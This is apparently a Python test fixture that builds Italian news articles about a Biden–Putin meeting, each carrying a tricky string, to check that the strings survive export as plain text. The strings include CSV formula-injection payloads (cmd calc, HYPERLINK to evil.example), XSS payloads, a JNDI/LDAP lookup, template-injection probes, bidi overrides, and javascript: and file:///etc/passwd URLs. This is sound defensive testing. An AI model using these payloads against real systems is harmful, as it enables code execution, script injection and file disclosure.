"""Texts that a format could take for its own marks: each must come back as text. They stand in titles, sources, addresses and sentences."""

from datetime import date, timedelta

TEXTS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =HYPERLINK(\"https://evil.example\",\"x\")",
    "＝1+1 ＋1 －1 ＠x",
    "a \"quoted\", with commas; and; semicolons",
    "back\\slash \\n \\, \\;",
    "_x0041_ and _x000D_",
    "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "# heading *a* _b_ `c` ~~d~~ | e | $f$ ^g^ :smile: @somebody {.class}",
    "1. list",
    "&lt; &amp; &#x3C; <!-- c --> ]]> <?php ?>",
    "emoji 👩‍👩‍👧‍👦 🇮🇹 e\u0301 日本語 ｗｉｄｅ",
    "عربي עברית \u202etxet desrever\u202c",
    "zero\u200bwidth\u2028line\u2029paragraph",
    "END:VEVENT BEGIN:VALARM",
    "${jndi:ldap://evil.example} {{7*7}} %s %n",
]
ADDRESSES = [
    "javascript:alert(1)", "https://e.example/a b\"c)<d>", "data:text/html,x", "https://e.example/?q=%22&r='", "file:///etc/passwd",
    "HTTPS://E.example/(x)|y", "//e.example/x", "https://e.example/è/日",
]


def articles():
    """An article for each text, a week apart, each with one meeting beyond doubt."""
    for index, text in enumerate(TEXTS):
        yield {
            "title": f"Biden incontra Putin {text}",
            "source": text,
            "url": f"{ADDRESSES[index % len(ADDRESSES)]}#{index}",
            "published": (date(2021, 6, 17) + timedelta(weeks=index)).isoformat(),
            "language": "it",
            "text": f"Il presidente Joe Biden ha incontrato mercoledì a Ginevra il presidente russo Vladimir Putin. {text}, ha detto "
            "il portavoce. Ieri la Francia ha condannato la Russia.",
        }


def told(graph):
    """What the graph has of them: a row for each piece of evidence of what occurred or is planned."""
    return graph.rows(
        "MATCH (e:Event)-[r:REPORTED_IN]->(a:Article) WHERE e.status IN ['occurred', 'planned'] "
        "RETURN e.id AS id, r.quote AS quote, a.title AS title, a.source AS source, a.url AS url, r.attributedTo AS attributedTo"
    )
